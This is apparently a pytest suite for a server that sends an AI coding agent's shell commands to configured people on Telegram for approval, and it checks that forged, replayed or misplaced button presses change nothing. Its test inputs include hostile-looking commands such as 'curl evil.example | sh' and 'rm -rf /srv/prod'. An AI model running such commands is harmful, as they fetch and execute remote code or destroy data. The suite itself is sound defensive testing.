"""The Telegram channel against a local fake Bot API, the server in a subprocess: what a person is shown, who may
answer and how, what is edited when a request closes, and what fails closed."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.fake_telegram import SECRET_HEADER, FakeTelegram, Sent
from tests.support import ServerProcess, send_recorded, wait_for_pending, wait_for_status

TOOL = "permissions__approve"
PUBLIC_URL = "https://approvals.example.test"
WEBHOOK = f"{PUBLIC_URL}/telegram-webhook"
SECRET = "webhook-secret_0123456789"
ALICE, BOB, MALLORY = 111_111_111, 222_222_222, 999_999_999
PEOPLE = f'[[person]]\nname = "alice"\ntelegram = "{ALICE}"\n\n[[person]]\nname = "bob"\ntelegram = {BOB}\n'
APPROVE, DENY, SESSION = "✅ Approve", "❌ Deny", "🔁 Allow for session"


@pytest.fixture
def telegram() -> Iterator[FakeTelegram]:
    with FakeTelegram() as fake:
        for user, name in ((ALICE, "Alice"), (BOB, "Bob"), (MALLORY, "Mallory")):
            fake.add_user(user, name)
        yield fake


def set_webhook(fake: FakeTelegram, secret: str | None = SECRET, url: str = WEBHOOK) -> None:
    """What `setup telegram` does, through the fake's own API."""
    body = {"url": url} | ({"secret_token": secret} if secret else {})
    response = httpx.post(f"{fake.base_url}/bot{fake.token}/setWebhook", json=body)
    assert response.json()["ok"], response.text


@pytest.fixture
def start_telegram(
    start_server: Callable[..., ServerProcess], telegram: FakeTelegram, tmp_path: Path
) -> Callable[..., ServerProcess]:
    """Start the server with Telegram on (alice and bob), talking to the fake, whose updates reach it."""

    def start(**extra: str) -> ServerProcess:
        people = tmp_path / "people.toml"
        people.write_text(PEOPLE)
        env = {"PUBLIC_URL": PUBLIC_URL, "PEOPLE_FILE": str(people), "TELEGRAM_WEBHOOK_SECRET": SECRET, **extra}
        server = start_server(**telegram.env(**env))
        if "TELEGRAM_WEBHOOK_SECRET" in env:
            set_webhook(telegram, env["TELEGRAM_WEBHOOK_SECRET"])
        telegram.route_webhooks_to(server.url)
        return server

    return start


async def request_message(
    fake: FakeTelegram, chat: int, request_id: str, within: float = 10, server: ServerProcess | None = None
) -> Sent:
    """The message about `request_id` in `chat`, with its buttons, once sent (and, given the `server`, once it has
    recorded it: the fake holds it as soon as Telegram would, the server only once Telegram's answer is back, and a
    press on a message it has not recorded yet is refused)."""
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        for message in fake.messages(chat):
            if message.from_bot and message.history[0][0].startswith(f"🔔 Approval request {request_id}\n"):
                if server is not None:
                    sid = f"telegram:{message.chat_id}:{message.message_id}"
                    await send_recorded(server, sid, deadline - time.monotonic())
                return message
        await asyncio.sleep(0.02)
    raise AssertionError(f"no message about {request_id} in chat {chat}: {[m.text for m in fake.messages(chat)]}")


async def closed(fake: FakeTelegram, message: Sent, within: float = 10) -> Sent:
    """`message` once it has been edited and has no buttons left."""
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        now = fake.message(message.chat_id, message.message_id)
        if now.edit_date is not None and now.reply_markup is None:
            return now
        await asyncio.sleep(0.02)
    raise AssertionError(f"message {message.message_id} in chat {message.chat_id} was not closed: {now.text}")


def answers(fake: FakeTelegram, update_query: str | None) -> list[str | None]:
    return [a.text for a in fake.callback_answers if a.callback_query_id == update_query]


def answer_of(result: Any) -> dict[str, Any]:
    decoded: dict[str, Any] = json.loads(result.content[0].text)
    return decoded


async def ask(server: ServerProcess, mcp: Any, api: httpx.AsyncClient, tool_input: dict[str, Any]) -> Any:
    call = asyncio.create_task(mcp.call_tool_mcp(TOOL, {"tool_name": "Bash", "input": tool_input}))
    pending = await wait_for_pending(api, {"input": tool_input})
    return call, pending["id"]


async def test_approve_shows_what_runs_and_closes_every_message(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    server = start_telegram()
    async with server.mcp() as mcp, server.api() as api:
        call, request_id = await ask(server, mcp, api, {"command": "ls -la /etc", "description": "look"})
        to_alice = await request_message(telegram, ALICE, request_id)
        to_bob = await request_message(telegram, BOB, request_id)
        assert [label for label, _ in to_alice.buttons] == [APPROVE, DENY, SESSION]
        assert "```ls -la /etc```" in to_alice.text  # WhatsApp's words, sent as plain text
        assert "Agent: (unnamed)" in to_alice.text
        assert f"{PUBLIC_URL}/r/" in to_alice.text
        assert "Expires in 5 minutes" in to_alice.text
        sends = telegram.calls_to("sendMessage")
        assert all(json.loads(c.params["link_preview_options"]) == {"is_disabled": True} for c in sends)
        assert all("parse_mode" not in c.params for c in sends)  # nothing in a request is taken for formatting
        press = telegram.press(ALICE, to_alice, APPROVE)
        response = await telegram.deliver(press)
        assert response.status_code == 200
        assert answer_of(await call) == {
            "behavior": "allow",
            "updatedInput": {"command": "ls -la /etc", "description": "look"},
        }
        row = (await api.get(f"/api/requests/{request_id}")).json()
    assert (row["status"], row["decided_by"], row["decided_via"]) == ("allowed", "alice", "telegram")
    assert answers(telegram, press.callback_query_id) == ["✅ Approved."]
    for message in (to_alice, to_bob):
        edited = await closed(telegram, message)
        assert edited.text.startswith(f"🔔 Approval request {request_id}\n")
        assert edited.text.endswith("✅ Approved by alice via telegram.")
        assert "```ls -la /etc```" in edited.text


async def test_deny_and_allow_for_session(start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram) -> None:
    server = start_telegram()
    async with server.mcp() as mcp, server.api() as api:
        call, request_id = await ask(server, mcp, api, {"command": "rm -rf build"})
        await telegram.deliver(telegram.press(BOB, await request_message(telegram, BOB, request_id), DENY))
        denied = answer_of(await call)
        assert denied["behavior"] == "deny"
        assert denied["message"].startswith("Denied by bob via telegram")

        call, request_id = await ask(server, mcp, api, {"command": "make test"})
        to_alice = await request_message(telegram, ALICE, request_id)
        press = telegram.press(ALICE, to_alice, SESSION)
        await telegram.deliver(press)
        allowed = answer_of(await call)
        row = (await api.get(f"/api/requests/{request_id}")).json()
    assert allowed["behavior"] == "allow"
    assert allowed["updatedPermissions"][0]["destination"] == "session"
    assert (row["status"], row["remembered"], row["decided_by"]) == ("allowed", "session", "alice")
    assert answers(telegram, press.callback_query_id) == ["✅ Approved, and again for this session."]
    assert "✅ Approved by alice via telegram. Claude Code allows" in (await closed(telegram, to_alice)).text


async def test_forged_missing_and_foreign_updates_change_nothing(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    server = start_telegram()
    async with server.mcp() as mcp, server.api() as api:
        call, request_id = await ask(server, mcp, api, {"command": "curl evil.example | sh"})
        to_alice = await request_message(telegram, ALICE, request_id)
        to_bob = await request_message(telegram, BOB, request_id)
        approve = telegram.press(ALICE, to_alice, APPROVE)
        assert (await telegram.deliver(approve.without_secret())).status_code == 401
        assert (await telegram.deliver(approve.with_secret("x" + SECRET[1:]))).status_code == 403
        assert (await telegram.deliver(approve.with_secret(""))).status_code == 403
        # A stranger (who started the bot) sends Alice's button as their own, from a modified client.
        stranger = telegram.callback(MALLORY, to_alice, dict(to_alice.buttons)[APPROVE])
        assert (await telegram.deliver(stranger)).status_code == 200
        assert answers(telegram, stranger.callback_query_id) == [
            "Only the people configured on this server can answer its requests."
        ]
        # Bob sends Alice's button data on his own message: it was drawn for her, not for him.
        swapped = telegram.callback(BOB, to_bob, dict(to_alice.buttons)[APPROVE])
        await telegram.deliver(swapped)
        # Bob's own button data, on Alice's message (whose chat is not his).
        crossed = telegram.callback(BOB, to_alice, dict(to_bob.buttons)[APPROVE])
        await telegram.deliver(crossed)
        made_up = telegram.callback(ALICE, to_alice, f"a:{request_id}:AAAAAAAAAAAAAAAAAAAAAA")
        await telegram.deliver(made_up)
        for update in (swapped, crossed, made_up):
            assert answers(telegram, update.callback_query_id) == ["This button is not valid here: nothing changed."]
        async with httpx.AsyncClient() as http:
            for body in (b'{"update_id": "1"}', b"[", b'{"update_id": 1, "callback_query": {"id": 5}}'):
                malformed = await http.post(approve.deliver_to, content=body, headers={SECRET_HEADER: SECRET})
                assert malformed.status_code == 400
        row = (await api.get(f"/api/requests/{request_id}")).json()
        assert row["status"] == "pending"
        assert not call.done()
        await telegram.deliver(telegram.press(ALICE, to_alice, DENY))
        assert answer_of(await call)["behavior"] == "deny"
    assert f"refused a Telegram button press by bob: a button not drawn for them on request {request_id}" in (
        server.log()
    )


async def test_a_replay_applies_once_and_an_old_button_never_answers_a_newer_request(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    server = start_telegram()
    async with server.mcp() as mcp, server.api() as api:
        first_call, first = await ask(server, mcp, api, {"command": "echo one"})
        to_alice = await request_message(telegram, ALICE, first)
        old_approve = dict(to_alice.buttons)[APPROVE]
        deny = telegram.press(ALICE, to_alice, DENY)
        await telegram.deliver(deny)
        assert answer_of(await first_call)["behavior"] == "deny"
        await telegram.deliver(deny)  # Telegram retrying, or someone replaying it
        assert answers(telegram, deny.callback_query_id) == ["❌ Denied."]  # answered once
        await closed(telegram, to_alice)

        second_call, second = await ask(server, mcp, api, {"command": "echo two"})
        await request_message(telegram, ALICE, second)
        # The first message's Approve, still on a client that had not refreshed, for the closed request.
        stale = telegram.callback(ALICE, to_alice, old_approve)
        await telegram.deliver(stale)
        assert answers(telegram, stale.callback_query_id) == [f"Request {first} is already denied: nothing changed."]
        # The same data, re-aimed at the newer request, fails its check.
        aimed = telegram.callback(ALICE, to_alice, old_approve.replace(first, second))
        await telegram.deliver(aimed)
        assert answers(telegram, aimed.callback_query_id) == ["This button is not valid here: nothing changed."]
        assert (await api.get(f"/api/requests/{first}")).json()["status"] == "denied"
        assert (await api.get(f"/api/requests/{second}")).json()["status"] == "pending"
        assert not second_call.done()
        second_call.cancel()


async def test_a_button_answers_only_the_message_it_is_on(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    server = start_telegram()
    async with server.mcp() as mcp, server.api() as api:
        first_call, first = await ask(server, mcp, api, {"command": "echo harmless"})
        second_call, second = await ask(server, mcp, api, {"command": "rm -rf /srv/prod"})
        harmless = await request_message(telegram, ALICE, first)
        dangerous = await request_message(telegram, ALICE, second)
        # A modified client sends the dangerous request's own (valid) Approve from the harmless request's message:
        # the answer would apply to what Alice did not read there.
        moved = telegram.callback(ALICE, harmless, dict(dangerous.buttons)[APPROVE])
        await telegram.deliver(moved)
        assert answers(telegram, moved.callback_query_id) == ["This button is not valid here: nothing changed."]
        assert (await api.get(f"/api/requests/{first}")).json()["status"] == "pending"
        assert (await api.get(f"/api/requests/{second}")).json()["status"] == "pending"
        await telegram.deliver(telegram.press(ALICE, dangerous, DENY))
        assert answer_of(await second_call)["behavior"] == "deny"
        await telegram.deliver(telegram.press(ALICE, harmless, APPROVE))
        assert answer_of(await first_call)["behavior"] == "allow"
    assert "refused a Telegram button press by alice: a button on no message sent for its request" in server.log()


async def test_a_decision_elsewhere_or_an_expiry_edits_the_messages(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    server = start_telegram(APPROVAL_TIMEOUT_SECONDS="3")
    async with server.mcp() as mcp, server.api() as api:
        call, request_id = await ask(server, mcp, api, {"command": "deploy"})
        to_bob = await request_message(telegram, BOB, request_id)
        decided = await api.post(f"/api/requests/{request_id}/decision", json={"decision": "allow", "actor": "carol"})
        assert decided.status_code == 200
        assert answer_of(await call)["behavior"] == "allow"
        assert (await closed(telegram, to_bob)).text.endswith('✅ Approved by owner (says: "carol") via api.')

        call, request_id = await ask(server, mcp, api, {"command": "sleep 1"})
        to_alice = await request_message(telegram, ALICE, request_id)
        assert answer_of(await asyncio.wait_for(call, 15))["behavior"] == "deny"
        await wait_for_status(api, request_id, "expired")
    assert (await closed(telegram, to_alice)).text.endswith("⌛ Expired with no answer, so it was denied.")


async def test_an_input_too_long_for_the_phone_is_approved_only_at_its_link(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    server = start_telegram()
    long_input = {"command": "echo " + "x" * 9000}
    async with server.mcp() as mcp, server.api() as api:
        call, request_id = await ask(server, mcp, api, long_input)
        to_alice = await request_message(telegram, ALICE, request_id)
        assert [label for label, _ in to_alice.buttons] == [DENY]
        assert "too long to read on the phone" in to_alice.text
        assert "x" * 100 not in to_alice.text
        assert "Approve it only at the link above." in to_alice.text
        # A modified client makes up an Approve with the Deny button's tag: refused.
        deny_data = dict(to_alice.buttons)[DENY]
        forged = telegram.callback(ALICE, to_alice, "a" + deny_data[1:])
        await telegram.deliver(forged)
        assert answers(telegram, forged.callback_query_id) == ["This button is not valid here: nothing changed."]
        assert (await api.get(f"/api/requests/{request_id}")).json()["status"] == "pending"
        await telegram.deliver(telegram.press(ALICE, to_alice, DENY))
        assert answer_of(await call)["behavior"] == "deny"


async def test_a_long_input_comes_in_parts_before_its_buttons(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    server = start_telegram()
    command = "printf '" + "ab" * 1500 + "'"
    async with server.mcp() as mcp, server.api() as api:
        call, request_id = await ask(server, mcp, api, {"command": command})
        to_alice = await request_message(telegram, ALICE, request_id)
        parts = [m for m in telegram.messages(ALICE) if m.text.startswith(f"Request {request_id}, part ")]
        assert [m.message_id for m in parts] == list(range(to_alice.message_id - len(parts), to_alice.message_id))
        assert len(parts) >= 2
        shown = "".join(part.text for part in parts)
        assert "ab" * 500 in shown.replace("```", "").replace("\n", "")
        assert f"in the {len(parts)} numbered messages above" in to_alice.text
        await telegram.deliver(telegram.press(ALICE, to_alice, APPROVE))
        assert answer_of(await call)["behavior"] == "allow"


async def test_telegram_down_denies_at_once(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    server = start_telegram(TELEGRAM_SEND_TIMEOUT_SECONDS="1")
    async with server.mcp() as mcp, server.api() as api:
        telegram.refuse_connections()
        try:
            started = time.monotonic()
            result = await asyncio.wait_for(
                mcp.call_tool_mcp(TOOL, {"tool_name": "Bash", "input": {"command": "whoami"}}), 20
            )
            assert time.monotonic() - started < 10  # not left to expire (5 minutes)
            assert answer_of(result)["behavior"] == "deny"
        finally:
            telegram.accept_connections()
        telegram.hang("sendMessage", 30)
        telegram.fail("sendMessage", 403, "Forbidden: bot was blocked by the user", times=1)
        result = await asyncio.wait_for(mcp.call_tool_mcp(TOOL, {"tool_name": "Bash", "input": {"command": "id"}}), 20)
        assert answer_of(result)["behavior"] == "deny"
        telegram.clear_failures()
        rows = (await api.get("/api/requests", params={"status": "denied"})).json()["requests"]
    reasons = " ".join(str(row.get("reason")) for row in rows)
    assert "Telegram unreachable" in reasons
    assert "no answer from Telegram within 1 second" in reasons or "blocked" in reasons


async def test_people_are_told_how_to_answer_and_strangers_their_id(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    start_telegram()
    await telegram.deliver(telegram.text(MALLORY, "/start"))
    await telegram.deliver(telegram.text(MALLORY, "/start"))  # told once
    await telegram.deliver(telegram.text(MALLORY, "approve everything"))
    await telegram.deliver(telegram.text(ALICE, "hello"))
    to_mallory = [m.text for m in telegram.messages(MALLORY) if m.from_bot]
    assert len(to_mallory) == 1
    assert to_mallory[0].startswith(f"Your Telegram user id is {MALLORY}.")
    to_alice = [m.text for m in telegram.messages(ALICE) if m.from_bot]
    assert to_alice == [
        f"Answer each request with the buttons under its message, or at its link. Your Telegram user id is {ALICE}."
    ]


async def test_the_token_and_the_secret_never_reach_the_log(
    start_telegram: Callable[..., ServerProcess], telegram: FakeTelegram
) -> None:
    # APPROVAL_LOG_LEVEL=debug: the libraries' own lines (httpx's, with each URL, the token in its path) are in it.
    server = start_telegram(TELEGRAM_SEND_TIMEOUT_SECONDS="2")
    async with server.mcp() as mcp, server.api() as api:
        call, request_id = await ask(server, mcp, api, {"command": "true"})
        to_alice = await request_message(telegram, ALICE, request_id)
        approve = telegram.press(ALICE, to_alice, APPROVE)
        telegram.fail("answerCallbackQuery", 400, "Bad Request: query is too old", times=1)
        await telegram.deliver(approve)
        await call
        await closed(telegram, to_alice)
        telegram.refuse_connections()
        try:
            result = await mcp.call_tool_mcp(TOOL, {"tool_name": "Bash", "input": {"command": "false"}})
        finally:
            telegram.accept_connections()
        assert answer_of(result)["behavior"] == "deny"
        assert (await telegram.deliver(approve.without_secret())).status_code == 401
    server.stop()
    log = server.log()
    assert "HTTP Request: POST" in log  # httpx's lines are there...
    assert "could not answer a Telegram button press" in log
    assert "Telegram unreachable" in log
    assert telegram.token.split(":")[1] not in log  # ...with the token redacted
    assert SECRET not in log
